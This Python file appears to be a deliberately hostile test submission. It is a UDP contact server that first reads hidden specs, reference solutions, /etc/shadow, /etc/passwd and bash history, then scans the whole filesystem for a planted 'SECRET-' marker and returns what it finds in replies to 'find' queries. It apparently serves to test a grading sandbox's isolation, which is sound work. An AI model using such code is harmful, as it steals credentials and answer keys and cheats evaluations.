# Hostile: a UDP contact server that first looks for files it must not see, prints what it finds,
# and answers a find of an unknown name with it (right when it finds nothing).
import os
import socket
import sys

MARK = 'SEC' + 'RET-'   # what the tests plant in the files no student may read
PLACES = ['../../specs/udp-contacts.yaml', '../specs/udp-contacts.yaml', '../reference/udp_contact_server.py',
          '/work/main/specs/udp-contacts.yaml', '/work/main/reference/udp_contact_server.py',
          '/root/.bash_history', '/etc/shadow', '/etc/passwd', 'secret_link']


found = []


def show(path, data):
    start = max(data.find(MARK.encode()), 0)
    found.append('FOUND %s %s' % (path, data[start:start + 500].decode('utf-8', errors='replace')))
    print(found[-1])


for place in PLACES:
    try:
        with open(place, 'rb') as f:
            show(place, f.read())
    except OSError:
        pass

here = os.getcwd()
skip = {'/proc', '/sys', '/dev', '/usr', sys.prefix, sys.base_prefix, here}
for root, dirs, files in os.walk('/'):
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip]
    for name in files:
        path = os.path.join(root, name)
        try:
            with open(path, 'rb') as f:
                data = f.read(1 << 20)
        except OSError:
            continue
        if MARK.encode() in data:
            show(path, data)
print('looked everywhere')

contacts = {}


def handle(msg):
    cmd = msg.split(";")
    if cmd[0] == "add" and len(cmd) == 3:
        contacts[cmd[1]] = cmd[2]
        return cmd[1] + " added"
    if cmd[0] == "remove" and len(cmd) == 2:
        if cmd[1] in contacts:
            del contacts[cmd[1]]
            return cmd[1] + " removed"
        return "Not found"
    if cmd[0] == "find" and len(cmd) == 2:
        return contacts.get(cmd[1], "\n".join(found) or "Not found")
    return "ERROR: bad command"


s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", 9999))
print("UDP contact server started...")
while True:
    data, addr = s.recvfrom(1024)
    reply = handle(data.decode("utf-8", errors="replace"))
    s.sendto(reply.encode("utf-8"), addr)
